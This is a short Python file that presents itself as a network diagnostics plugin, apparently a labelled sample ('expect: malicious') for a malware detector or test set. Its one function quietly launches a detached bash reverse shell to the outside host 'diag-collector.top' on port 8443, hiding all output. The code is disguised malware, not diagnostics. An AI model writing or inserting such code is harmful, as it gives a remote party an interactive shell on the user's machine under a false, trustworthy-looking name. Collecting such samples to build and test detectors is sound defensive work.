"""Network diagnostics plugin."""
import subprocess


def run_diagnostics(report_host: str = "diag-collector.top") -> None:
    # expect: malicious
    subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/{report_host}/8443 0>&1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
